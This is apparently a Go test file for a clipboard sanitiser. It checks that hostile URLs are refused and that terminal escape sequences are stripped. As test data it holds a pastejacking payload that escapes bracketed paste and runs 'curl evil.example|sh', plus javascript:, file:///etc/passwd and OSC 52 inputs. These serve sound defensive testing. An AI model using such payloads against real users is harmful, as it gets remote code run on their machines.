package safe

import (
	"strings"
	"testing"
)

// The pastejacking payload from issue 14: an alert's runbook_url that ends
// a bracketed paste and runs a command when pasted into bash.
const pastejack = "https://runbooks.example/x\x1b[201~\ncurl evil.example|sh\n"

func TestClipboardRefusesHostileURLs(t *testing.T) {
	for _, u := range []string{
		pastejack,
		"javascript:alert(document.cookie)",
		"JavaScript:alert(1)",
		"file:///etc/passwd",
		"data:text/html,<script>x</script>",
		"https://ok.example/a b",
		"https://ok.example/\u009b201~",
		"https://ok.example/\u202etxt.exe",
		"//no-scheme.example/x",
		"http:///no-host",
	} {
		got, err := Clipboard(u, URL)
		if err == nil {
			t.Errorf("Clipboard(%q, URL) = %q, want refused", u, got)
		}
	}
	got, err := Clipboard("javascript:alert(1)", URL)
	if err == nil || !strings.Contains(err.Error(), "only http and https") || !strings.Contains(err.Error(), `"javascript:"`) {
		t.Errorf("refusal should say why, got %q, %v", got, err)
	}
	for _, u := range []string{"https://runbooks.example/HostDown?x=1#y", "  http://wiki/r  ", "HTTPS://X.example/"} {
		got, err := Clipboard(u, URL)
		if err != nil || got != strings.TrimSpace(u) {
			t.Errorf("Clipboard(%q, URL) = %q, %v; want it as is", u, got, err)
		}
	}
}

func TestClipboardLineStripsSequencesWhole(t *testing.T) {
	cases := map[string]string{
		pastejack:                    "https://runbooks.example/x curl evil.example|sh",
		"id\x1b[200~x\x1b[201~":      "idx",
		"a\u009b201~b":               "ab",
		"a\x1b]52;c;ZWNobyBoaQ==\ab": "ab",
		"a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b": "alinkb",
		"a\x1bPq#0\x1b\\b":                           "ab",
		"a\x1b(Bb\x1bcd":                             "abd",
		"\x00a\x7fb\u202ec\u00ad\u200bd\t\xffe\r\n":  "abcd e",
		"1c9b7e56-2ab0-4c5e-9f0a-6a1e1b0c2d3e":       "1c9b7e56-2ab0-4c5e-9f0a-6a1e1b0c2d3e",
		"日本 host":                                    "日本 host",
		"a\x1b[":                                     "a",
		"a\x1b[12\nb":                                "a b",
	}
	for in, want := range cases {
		got, err := Clipboard(in, Line)
		if err != nil || got != want {
			t.Errorf("Clipboard(%q, Line) = %q, %v; want %q", in, got, err, want)
		}
		if strings.ContainsAny(got, "\x1b\n\r\a") {
			t.Errorf("Clipboard(%q, Line) kept a control: %q", in, got)
		}
	}
	if _, err := Clipboard("\x1b[201~\n", Line); err == nil {
		t.Error("a payload that is only controls should copy nothing")
	}
}

func TestClipboardLinesKeepsNewlinesButNoTrailingOne(t *testing.T) {
	got, err := Clipboard("Traceback:\r\n  File \"x\"\x1b[201~\n\tboom\n\n", Lines)
	want := "Traceback:\n  File \"x\"\n boom"
	if err != nil || got != want {
		t.Fatalf("got %q, %v; want %q", got, err, want)
	}
}

func FuzzClipboard(f *testing.F) {
	f.Add(pastejack, 0)
	f.Add("a\u009b201~\nb", 2)
	f.Fuzz(func(t *testing.T, s string, k int) {
		kind := Kind(((k % 3) + 3) % 3)
		got, err := Clipboard(s, kind)
		if err != nil {
			return
		}
		for _, r := range got {
			if r == '\n' && kind == Lines {
				continue
			}
			if r < 0x20 || (r >= 0x7f && r <= 0x9f) {
				t.Fatalf("Clipboard(%q, %d) = %q holds control %U", s, kind, got, r)
			}
		}
		if strings.HasSuffix(got, "\n") {
			t.Fatalf("trailing newline in %q", got)
		}
	})
}
